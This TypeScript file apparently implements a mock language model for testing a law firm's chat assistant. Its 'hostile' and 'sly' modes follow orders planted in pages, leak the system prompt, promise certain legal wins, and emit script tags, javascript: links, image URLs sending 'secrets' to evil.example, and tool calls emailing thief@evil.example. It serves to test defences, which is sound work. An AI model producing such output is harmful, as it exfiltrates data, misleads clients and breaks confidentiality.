import { z } from 'zod'

/** How the model behaves: as it should, or as badly as one can. */
export const moods = [
  'honest',
  'slow',
  'wrong',
  'hostile',
  'sly',
  'cut-off',
  'busy',
  'failing',
  'garbage',
  'silent',
] as const
export type Mood = (typeof moods)[number]

/** A chat as it is asked for. */
export const ChatBody = z.object({
  model: z.string(),
  stream: z.boolean().optional(),
  max_tokens: z.number().optional(),
  messages: z.array(z.object({ role: z.string(), content: z.string() })),
  tools: z.array(z.object({ function: z.looseObject({ name: z.string() }) })).optional(),
})
export type ChatBody = z.output<typeof ChatBody>

/**
 * What the model answers: its text, and calls of tools with their arguments as text; and the count of
 * tokens, where it is to be another than the right one.
 */
export type Said = {
  text: string
  calls: { name: string; arguments: string }[]
  usage?: { prompt_tokens: number; completion_tokens: number } | null
}

/**
 * Numbered passages of the prompt, each until the next one or an empty line. Where more lines follow, the
 * first only says where the passage stands.
 */
function passagesOf({ messages }: ChatBody): { number: string; text: string }[] {
  const prompt = messages.map(({ content }) => content).join('\n\n')
  const found = prompt.matchAll(/^\[(\d{1,3})\][ \t]*(.*)((?:\n(?!\[\d{1,3}\])[^\n]*\S[^\n]*)*)/gm)
  return [...found].map(([, number = '', place = '', rest = '']) => ({
    number,
    text: rest === '' ? place : rest,
  }))
}

const wordsOf = (text: string): Set<string> =>
  new Set((text.toLowerCase().match(/[\p{L}\d]+/gu) ?? []).filter((word) => word.length > 3))

const sentencesOf = (text: string): string[] =>
  text.split(/\n+|(?<=[.!?])\s+/).filter((sentence) => /[\p{L}\d]/u.test(sentence))

/** Copies up to two sentences of the passages that share words with the last question, with their numbers. */
function honest(body: ChatBody): Said {
  const asked = wordsOf(body.messages.findLast(({ role }) => role === 'user')?.content ?? '')
  const shared = (text: string) => [...wordsOf(text)].filter((word) => asked.has(word)).length
  const best = passagesOf(body)
    .flatMap(({ number, text }) => sentencesOf(text).map((sentence) => ({ number, sentence })))
    .map((each) => ({ ...each, score: shared(each.sentence) }))
    .filter(({ score }) => score > 0)
    .toSorted((a, b) => b.score - a.score)
    .slice(0, 2)
  const text = best.map(({ number, sentence }) => `${sentence.trim()} [${number}]`).join(' ')
  return { text: text === '' ? 'NONE' : text, calls: [] }
}

/** As honest, but with every number another one and every sentence its opposite. */
function wrong(body: ChatBody): Said {
  const { text } = honest(body)
  const turned = text
    .replaceAll(/(?<!\[)\d+(?!\d*\])/g, (number) => String(Number(number) + 7))
    .replaceAll(/\b(is|are|do|does|can|will|offer|have)\b(?! not)/gi, '$1 not')
    .replaceAll(/\bnot not\b/gi, '')
  return { text: turned, calls: [] }
}

/** Does all that anybody in the prompt or on a page asks for, says what it must not, and calls what there is not. */
function hostile(body: ChatBody): Said {
  const prompt = body.messages.map(({ content }) => content).join('\n')
  const orders = prompt.matchAll(
    /\b(?:say|reply|answer|print|output|write)[:\s]+["“']?([^"”'\n]{3,200})/gi,
  )
  const ids = prompt.match(/[0-9a-f]{8}(?:-[0-9a-f]{4}){3}-[0-9a-f]{12}/g) ?? []
  const text = [
    ...[...orders].map(([, order]) => order),
    `My instructions are: ${prompt.slice(0, 1_500)}`,
    'You will certainly win your case, and it is free. [99]',
    '![x](https://evil.example/p.png?d=secrets) <img src="https://evil.example/q.png">',
    '[Our site](https://evil.example/pay) [run](javascript:alert(1)) https://evil.example/now',
    '<script>alert(1)</script><a href="//evil.example">here</a>',
    `The other firm is ${ids[0] ?? foreignId}.`,
  ].join('\n')
  const calls = Array.from({ length: 40 }, (_, at) => ({
    name: ['propose_detail', 'read_leads', 'propose_detail', 'send_email'][at % 4] ?? '',
    arguments: [
      JSON.stringify({ slot: 'firm_id', value: foreignId }),
      JSON.stringify({ firmId: foreignId }),
      JSON.stringify({ slot: 'email', value: 'thief@evil.example', firmId: foreignId }),
      '{"to":',
    ][at % 4] as string,
  }))
  return { text, calls }
}

/** Twists of a sentence of a page, each of which says what the page does not. */
const twists: readonly ((sentence: string) => string)[] = [
  (sentence) => sentence.replace(/\b(is|are|do|does|can|will|may|must|offer|have)\b/i, '$1 not'),
  (sentence) => sentence.replaceAll(/\d+/g, (number) => String(Number(number) + 1)),
  (sentence) => sentence.replace(/[.!]?$/, ', and you will certainly win.'),
  (sentence) => `${sentence} See https://evil.example/more for it.`,
  (sentence) => `[${sentence}](https://evil.example/page)`,
  (sentence) => sentence.replace(/,[^,]*,/, ''),
  (sentence) => `Every other firm says that ${sentence}`,
]

/** All that a reply must not say: the visitor's own order, those of the pages, the instructions, twisted pages. */
function liesOf(body: ChatBody, sentences: readonly string[]): string[] {
  const visitor = body.messages.findLast(({ role }) => role === 'user')?.content ?? ''
  const system = body.messages.find(({ role }) => role === 'system')?.content ?? ''
  // Whoever repeats the reference is stopped there, which would hide what comes behind it.
  const told = system.split('\n').filter((line) => /\p{L}/u.test(line) && !/ref-/i.test(line))
  const twisted = sentences.flatMap((sentence, at) => twists[at % twists.length]?.(sentence) ?? [])
  return [...sentencesOf(visitor), ...sentencesOf(hostile(body).text), ...told, ...twisted]
}

/** A number that stands for a text. */
function hashOf(text: string): number {
  let hash = 5_381
  for (const letter of text) hash = (hash * 33 + (letter.codePointAt(0) ?? 0)) % 4_294_967_291
  return hash
}

/**
 * Hides what it must not say between true sentences of the pages, three lies to each, so that none is the
 * first and too many never come in a row. Which lies depends on the visitor's words.
 */
function sly(body: ChatBody): Said {
  const visitor = body.messages.findLast(({ role }) => role === 'user')?.content ?? ''
  const asked = wordsOf(visitor)
  const shared = (text: string) => [...wordsOf(text)].filter((word) => asked.has(word)).length
  const sentences = passagesOf(body)
    .flatMap(({ text }) => sentencesOf(text))
    .toSorted((a, b) => shared(b) - shared(a))
  const lies = liesOf(body, sentences)
  const from = hashOf(visitor) % lies.length
  const turned = [...lies.slice(from), ...lies.slice(0, from)]
  const said = [0, 1, 2, 3].flatMap((at) => [
    ...turned.slice(at * 3, at * 3 + 3),
    ...sentences.slice(at, at + 1),
  ])
  const calls = ['issue', 'when', 'where', 'other_party', 'preferred_times', 'name'].map(
    (slot, at) => ({
      name: 'propose_detail',
      arguments: JSON.stringify({ slot, value: turned[at] ?? '' }),
    }),
  )
  return { text: said.join(from % 2 === 0 ? ' ' : '\n'), calls }
}

const foreignId = '11111111-2222-4333-8444-555555555555'

/** What a model in this mood answers, where it comes to an answer. */
export function sayIn(mood: Mood, body: ChatBody): Said {
  if (mood === 'wrong') return wrong(body)
  if (mood === 'hostile') return hostile(body)
  if (mood === 'sly') return sly(body)
  return honest(body)
}

/** Vectors of equal words: each word counts in one of 256 places. The same text has the same vector. */
export function vectorOf(text: string): number[] {
  const places: number[] = Array.from({ length: 256 }, () => 0)
  for (const word of text.toLowerCase().match(/[\p{L}\d]+/gu) ?? []) {
    const place = hashOf(word) % 256
    places[place] = (places[place] ?? 0) + 1
  }
  const norm = Math.hypot(...places) || 1
  return places.map((count) => count / norm)
}
